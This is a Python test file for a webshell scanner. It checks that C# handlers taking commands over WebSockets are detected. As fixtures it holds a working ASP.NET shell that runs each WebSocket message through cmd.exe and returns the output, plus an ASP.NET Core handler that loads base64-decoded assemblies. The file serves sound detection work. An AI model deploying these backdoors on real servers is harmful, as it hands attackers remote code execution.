"""A WebSocket the client opened to the page is request data: what the server's end receives
(`AspNetWebSocketContext.WebSocket`, ASP.NET Core's `WebSockets.AcceptWebSocketAsync()`, read
with `ReceiveAsync` into a buffer) is the client's to choose, so a shell that takes its commands
over a WebSocket is found like one that takes them from a form (docs/detection/webshell-code.md,
"WebSocket messages"). A chat handler that keeps messages in its own log is not reported."""

from __future__ import annotations

from code_support import assert_found, medium_or_above, run

HANDLER = """<%@ WebHandler Language="C#" Class="Live" %>
using System;
using System.Net.WebSockets;
using System.Text;
using System.Threading;
using System.Threading.Tasks;
using System.Web;
using System.Web.WebSockets;
public class Live : IHttpHandler {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext context) { context.AcceptWebSocketRequest(Serve); }
    async Task Serve(AspNetWebSocketContext wsc) {
        WebSocket socket = wsc.WebSocket;
        var buffer = new byte[8192];
        while (socket.State == WebSocketState.Open) {
            var got = await socket.ReceiveAsync(new ArraySegment<byte>(buffer), CancellationToken.None);
            string text = Encoding.UTF8.GetString(buffer, 0, got.Count);
            BODY
        }
    }
}"""

RUN = """var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + text);
            psi.UseShellExecute = false;
            psi.RedirectStandardOutput = true;
            var output = System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();
            await socket.SendAsync(new ArraySegment<byte>(Encoding.UTF8.GetBytes(output)),
                WebSocketMessageType.Text, true, CancellationToken.None);"""

LOG = """System.IO.File.AppendAllText(HttpRuntime.AppDomainAppPath + "App_Data\\\\chat.log", text + "\\r\\n");
            await socket.SendAsync(new ArraySegment<byte>(Encoding.UTF8.GetBytes(text)),
                WebSocketMessageType.Text, true, CancellationToken.None);"""


def test_commands_over_a_websocket() -> None:
    code = HANDLER.replace("BODY", RUN)
    assert_found("live.ashx", code, "EXH-WS-CODE-PROCESS", ["a WebSocket message from the client"])


def test_assembly_over_an_aspnet_core_websocket() -> None:
    code = """using Microsoft.AspNetCore.Http;
public class Channel {
    public async System.Threading.Tasks.Task Invoke(HttpContext ctx) {
        var ws = await ctx.WebSockets.AcceptWebSocketAsync();
        var seg = new System.ArraySegment<byte>(new byte[65536]);
        var got = await ws.ReceiveAsync(seg, System.Threading.CancellationToken.None);
        var raw = System.Convert.FromBase64String(System.Text.Encoding.ASCII.GetString(seg.Array, 0, got.Count));
        System.Reflection.Assembly.Load(raw).CreateInstance("Stage");
    }
}"""
    assert_found(
        "channel.cs", code, "EXH-WS-CODE-ASSEMBLY", ["a WebSocket message from the client", "base64-decodes it"]
    )


def test_chat_log_is_not_reported() -> None:
    report = run("chat.ashx", HANDLER.replace("BODY", LOG))
    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]
